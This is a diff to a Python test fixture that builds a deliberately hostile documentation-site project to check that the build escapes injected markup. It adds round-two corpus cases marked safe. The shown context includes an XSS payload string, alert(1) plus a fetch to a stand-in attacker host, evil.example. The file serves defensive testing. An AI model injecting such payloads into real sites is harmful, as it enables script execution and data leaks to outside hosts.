@@ -5,7 +5,10 @@ characters, inside a title or a quotation), placed where a missed escaping
 step would turn it into markup: <head>, the header, the navigation, headings,
 table cells, the FAQ's JSON-LD, link titles, footnotes, the decision form's
 data attributes, the search index, file names. If any of them became HTML,
-the browser would show a dialog or make a request to another host.
+the browser would show a dialog or make a request to another host. The hostile
+corpus's round-two cases that build safely (tests/hostile/round_two.py: markup in
+code, an SVG, a search title, a percent-encoded report address, byte order marks)
+are applied on top.
 """
 
 from __future__ import annotations
@@ -15,6 +18,11 @@ import shutil
 from pathlib import Path
 
 from tests.harness.site import FIXTURES, ROOT
+from tests.hostile.cases import Safe
+from tests.hostile.round_two import CASES as ROUND_TWO
+
+# The hostile corpus's round-two cases that build (issue 21): their payloads join these.
+ROUND_TWO_SAFE = [case for case in ROUND_TWO if isinstance(case.expect, Safe)]
 
 # Runs if it ever becomes code: a dialog, and a request that leaves 127.0.0.1.
 JS = "alert(1);fetch('https://evil.example/x')"
@@ -99,6 +107,8 @@ def make_xss_project(dest: Path) -> Path:
         path.write_text(data, encoding="utf-8")
     for name, body in CONTENT.items():
         (dest / "content" / name).write_text(body, encoding="utf-8")
+    for case in ROUND_TWO_SAFE:
+        case.mutate(dest)
     # overrides/ points Material's search at the site's own worker in content/assets.
     shutil.copytree(ROOT / "content" / "assets", dest / "content" / "assets", dirs_exist_ok=True)
     return dest
